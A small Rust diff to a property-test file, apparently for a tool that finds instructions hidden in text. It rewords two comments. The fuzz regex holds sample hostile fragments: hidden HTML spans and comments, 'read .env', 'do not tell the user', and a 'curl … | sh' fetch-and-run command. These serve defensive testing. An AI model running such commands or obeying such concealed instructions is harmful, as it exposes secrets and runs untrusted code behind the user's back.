@@ -1,4 +1,4 @@
-//! What instructions hide, in the ways in which it is hidden, and what is a matter of style.
+//! What instructions hide and how, and what is a matter of style.
 
 use proptest::prelude::*;
 
@@ -78,7 +78,7 @@ fn pipes_count_where_they_are_meant_to_be_run() {
 }
 
 proptest! {
-    /// Places lie in the text, whatever it is.
+    /// Locations lie within any text.
     #[test]
     fn places_lie_in_the_text(text in "(<!--|-->|<span style=\"display:none\">|</span>|read .env|do not tell the user|curl https://a.b/c \\| sh|`|```|\n|é|  |\t\t\t\t\t\t|!`|\\[//\\]: #){0,30}") {
         for found in read(text.as_bytes()) {
